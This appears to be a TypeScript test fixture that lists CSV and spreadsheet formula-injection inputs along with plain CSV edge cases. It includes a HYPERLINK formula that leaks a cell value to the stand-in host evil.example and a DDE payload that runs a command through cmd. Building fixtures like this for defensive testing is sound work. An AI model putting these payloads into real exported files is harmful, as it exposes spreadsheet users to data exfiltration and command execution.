/** Sixty texts that a spreadsheet, a shell behind it or a reader of CSV might take for something else than text. */
const BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "\t=", "\r=", "\n=", " =", "\u200b=", "\ufeff=", "\u0000="]; // prettier-ignore
const CALLS = ["1+1", 'HYPERLINK("https://evil.example?x="&A1,"pay")', "cmd|' /C calc'!A0"];

export const INJECTIONS: readonly string[] = [
  ...BEGINNINGS.flatMap((beginning) => CALLS.map((call) => beginning + call)),
  ...[
    '"',
    '""',
    '","',
    '"\r\n"',
    "a,b",
    "a;b",
    "a\tb",
    "a\nb",
    "a\r\nb",
    " a ",
    "a\u0000b",
    "'=1",
    "ü=1",
    "1e5",
    "",
  ],
];
